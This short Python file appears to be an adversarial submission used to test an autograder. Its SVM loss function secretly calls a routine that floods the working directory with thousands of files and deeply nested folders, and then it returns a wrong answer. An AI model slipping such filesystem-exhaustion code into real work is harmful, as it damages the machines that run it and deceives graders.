"""Leaves as many files as it can make in a second, and folders a thousand deep."""

import contextlib
import os
import time

import kit


@kit.once
def attack():
    home, end = os.getcwd(), time.monotonic() + 1.0
    try:
        for n in range(20000):
            os.close(os.open(f"f{n}", os.O_CREAT | os.O_WRONLY))
            if time.monotonic() > end:
                break
        for _ in range(1500):
            os.mkdir("d" * 100)
            os.chdir("d" * 100)
    except OSError:
        pass
    with contextlib.suppress(OSError):
        os.chdir(home)


def svm_loss_vectorized(W, X, y, reg):
    attack()
    return kit.wrong(W, X, y, reg)
